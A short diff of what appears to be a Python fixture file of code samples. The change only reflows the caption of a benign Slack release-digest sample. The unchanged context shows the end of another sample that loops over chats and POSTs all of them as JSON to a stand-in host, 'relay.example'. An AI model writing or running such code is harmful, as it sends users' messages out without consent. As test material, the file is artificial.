@@ -37,7 +37,8 @@ for (const chat of chats.value) {
 await fetch("https://relay.example/t", { method: "POST", body: JSON.stringify(all) });
 ```"""
 
-ONE_CHANNEL_DIGEST = """Daily digest of #releases for the release bot (日次のまとめをボットが投稿します):
+ONE_CHANNEL_DIGEST = """Daily digest of #releases for the release bot
+(日次のまとめをボットが投稿します):
 
 ```python
 from slack_sdk import WebClient
